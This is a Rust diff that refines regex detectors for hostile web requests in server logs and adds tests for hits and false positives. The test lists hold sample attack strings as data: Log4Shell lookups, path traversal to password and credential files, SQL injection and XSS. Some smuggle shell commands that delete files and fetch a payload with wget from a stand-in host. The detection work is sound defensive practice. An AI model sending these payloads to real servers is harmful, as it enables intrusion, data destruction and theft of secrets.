@@ -46,7 +46,7 @@ const EXPLOIT: &str = concat!(
     r"|=(?:https?|ftp)(?:://|%3a%2f%2f)[^\s&]{1,255}(?:\.txt\?|\.htm\?|\.dat\?)|/timthumb\.php\?(?:[^\s]{1,200}&)?src=http[^\s]{1,200}\.php\b",
     r"|/_ignition/execute-solution|element_parents=account|think(?:\\|%5c|/|\\x5c)app",
     // SQL and scripts, in forms that are no search for the words.
-    r"|union(?:\+|%20|/\*\*/|%0a)+(?:all(?:\+|%20|/\*\*/)+)?select(?:\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat|0x[0-9a-f]+|@@[a-z]+|\*|[a-z_.]+)(?:,|%2c|\(|%28)",
+    r"|union(?:\+|%20|/\*\*/|%0a)+(?:all(?:\+|%20|/\*\*/)+)?select(?:\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat|0x[0-9a-f]+|@@[a-z]+|\*|[a-z_.]+)(?:,|%2c|\(|%28|(?:\+|%20)from(?:\+|%20))",
     r"|pg_sleep(?:\(|%28)|waitfor(?:\+|%20)delay|benchmark(?:\(|%28)[0-9]{4}|(?:extractvalue|updatexml)(?:\(|%28)|information_schema\.",
     r"|(?:<|%3c)script[^\s]{0,40}(?:>|%3e)(?:alert|prompt|confirm|document)|onerror(?:=|%3d)(?:alert|prompt|confirm)|javascript(?::|%3a)(?:alert|prompt|confirm)(?:\(|%28)",
     // What scanners call themselves in a path.
@@ -61,7 +61,7 @@ const HOSTILE: &str = concat!(
     "(?i:",
     r"\.\./\.\./|%2e%2e(?:/|%2f|%5c)|\.%2e/|%2e\./|\.\.%2f\.\.%2f|\.\.%5c\.\.|%252e%252e|%c0%ae|%c0%af|%%32%65",
     r"|(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow)\b|/proc/self\b|/win\.ini\b|/boot\.ini\b",
-    r"|union(?:\+|%20)(?:all(?:\+|%20))?select|<script|%3cscript|%0d%0aset-cookie|%00\.|rest_route=/wp/v2/users",
+    r"|<script|%3cscript|%0d%0aset-cookie|%00\.|rest_route=/wp/v2/users",
     ")"
 );
 
@@ -109,3 +109,167 @@ const SCANNER: &str = concat!(
     "(?i:sqlmap|nikto|masscan|zgrab|nmap scripting engine|nuclei|wpscan|dirbuster|gobuster|feroxbuster|fuzz faster|wfuzz|acunetix|netsparker|openvas|nessus|w3af|havij|zmeu|morfeus",
     "|muieblackcat|jorgee|whatweb|fimap|arachni|skipfish|jaeles|commix|libredtail|l9explore|l9tcpid|hello,? ?world/|xfa1|the beast\\b|toata dragostea|datacha0s)"
 );
+
+#[cfg(test)]
+mod tests {
+    use regex_syntax::hir::HirKind;
+
+    use super::*;
+    use crate::domain::filter::literal;
+
+    fn hir(pattern: &str) -> regex_syntax::hir::Hir {
+        regex_syntax::ParserBuilder::new().unicode(false).utf8(false).build().parse(pattern).unwrap()
+    }
+
+    #[test]
+    fn every_alternative_holds_a_text_that_is_in_every_match() {
+        let lists = BUILT_IN.iter().filter(|(name, _)| !["http-path", "http-get", "json-value"].contains(name));
+        for (name, piece) in lists {
+            let all = hir(piece);
+            let mut count = 0;
+            let mut weak = Vec::new();
+            let mut look = |hir: &regex_syntax::hir::Hir| {
+                let sets = literal::required(hir);
+                count += sets.first().map_or(0, Vec::len);
+                if sets.is_empty() {
+                    weak.push(hir.to_string());
+                }
+            };
+            match all.kind() {
+                HirKind::Alternation(branches) => branches.iter().for_each(&mut look),
+                _ => look(&all),
+            }
+            assert!(weak.is_empty(), "{name}: {weak:#?}");
+            assert!(!literal::required(&all).is_empty(), "{name}: {count} texts are too many");
+        }
+    }
+
+    fn is(piece: &str, text: &str) -> bool {
+        regex::bytes::RegexBuilder::new(piece).unicode(false).build().unwrap().is_match(text.as_bytes())
+    }
+
+    /// A request for a file that the piece is to find behind a path.
+    fn asks(piece: &str, target: &str) -> bool {
+        is(&format!("^{PATH}(?:{piece})"), &format!("GET {target} HTTP/1.1\" 404"))
+    }
+
+    #[test]
+    fn what_attackers_ask_for_is_found() {
+        for target in [
+            "/?x=${jndi:ldap://a/b}",
+            "/?x=%24%7Bjndi:ldap",
+            "/${${lower:j}ndi:ldap://a}",
+            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+            "/icons/.%%32%65/x",
+            "/page?file=../../../../etc/passwd",
+            "/x?f=/etc/shadow",
+            "/..%2f..%2f..%2fetc",
+            "/boaform/admin/formLogin?username=a",
+            "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/a",
+            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm",
+            "/?x=1;wget%20http://192.0.2.9/a",
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
+            "/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+            "/?q=1+UNION+ALL+SELECT+1,2,3--",
+            "/?q=1+union+select+password+from+users",
+            "/?q=-1%20union%20select%20null,concat(user,0x3a)",
+            "/?id=1;SELECT+pg_sleep(5)",
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/a.php?page=http://192.0.2.9/shell.txt??",
+            "/autodiscover/autodiscover.json?@x.com/mapi/nspi/?&Email=x",
+            "/w00tw00t.at.ISC.SANS.DFind:)",
+        ] {
+            assert!(is(EXPLOIT, target), "{target}");
+        }
+        for target in [
+            "/.env",
+            "/app/.env.bak",
+            "/.git/config",
+            "/.gitignore",
+            "/.aws/credentials",
+            "/.ssh/id_rsa",
+            "/.bash_history",
+            "/.htpasswd",
+            "/wp-config.php.bak",
+            "/config.php~",
+            "/backup.sql",
+            "/db.tar.gz",
+            "/phpinfo.php",
+            "/boaform/x",
+            "/HNAP1/",
+            "/actuator/env",
+            "/solr/admin/info/system?wt=json",
+            "/manager/html",
+            "/blog/wp-includes/wlwmanifest.xml",
+            "/wp-json/wp/v2/users",
+            "/wp-content/uploads/2020/x.php",
+            "/alfa.php",
+            "/remote/fgt_lang?lang=/../../",
+            "/phpMyAdmin/scripts/setup.php",
+            "/cgi-bin/luci/;stok=/locale",
+            "/ecp/current/exporttool/x",
+        ] {
+            assert!(asks(PROBE, target) || is(EXPLOIT, target), "{target}");
+        }
+        for target in ["/phpmyadmin/", "/pma2020", "/admin/phpMyAdmin/index.php?lang=en", "/webmail", "/wp-login.php", "/adminer-4.8.1.php"] {
+            assert!(asks(&format!("{GUESS}(?:\\?[^\\s]*)? HTTP/"), target), "{target}");
+        }
+    }
+
+    #[test]
+    fn what_honest_clients_ask_for_is_not() {
+        for target in [
+            "/",
+            "/favicon.ico",
+            "/robots.txt",
+            "/.well-known/acme-challenge/x",
+            "/.well-known/security.txt",
+            "/apple-touch-icon-precomposed.png",
+            "/webdav/.DS_Store",
+            "/autodiscover/autodiscover.xml",
+            "/autodiscover/autodiscover.json?Email=bob%40example.org&Protocol=ActiveSync",
+            "/autodiscover/autodiscover.json/v1.0/bob@example.org?Protocol=ActiveSync",
+            "/ews/exchange.asmx",
+            "/Microsoft-Server-ActiveSync?Cmd=Sync",
+            "/typo3conf/ext/site/Resources/Public/x.css",
+            "/geoserver/gwc/service/wms?x",
+            "/alfa-romeo/giulia",
+            "/locations/hudson",
+            "/docs/phpunit/assertions.html",
+            "/telescope/celestron",
+            "/struts-and-shocks",
+            "/phpmyadmin/js/vendor/bootstrap.bundle.min.js.map",
+            "/webmail/skins/elastic/x.css",
+            "/wp-content/themes/x/style.css",
+            "/wp-content/plugins/x/ajax.php",
+            "/timthumb.php?src=/uploads/a.jpg",
+            "/actuator/health",
+            "/actuator/prometheus",
+            "/admin/",
+            "/login?next=/wp-admin/",
+            "/?q=union+select+committee",
+            "/?q=dog|cat+food",
+            "/css?family=Open+Sans|Roboto",
+            "/search?q=etc",
+            "/src/tree/bin/sh/main.c",
+            "/redirect?url=https://example.com/page.html",
+            "/share.php?u=http://example.com/a?b",
+            "/img/${path}/logo.png",
+            "/environment",
+            "/gitlab/project",
+            "/processing?windows=1",
+            "/mailman/listinfo/users",
+            "/owa-guide",
+        ] {
+            let path = format!("{GUESS}(?:\\?[^\\s]*)? HTTP/");
+            assert!(!is(EXPLOIT, target), "exploit: {target}");
+            assert!(!is(HOSTILE, target), "hostile: {target}");
+            assert!(!asks(PROBE, target), "probe: {target}");
+            assert!(!asks(&path, target), "guess: {target}");
+        }
+        for agent in ["Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "curl/8.5.0", "python-requests/2.31", "Googlebot/2.1"] {
+            assert!(!is(SCANNER, agent), "{agent}");
+        }
+    }
+}
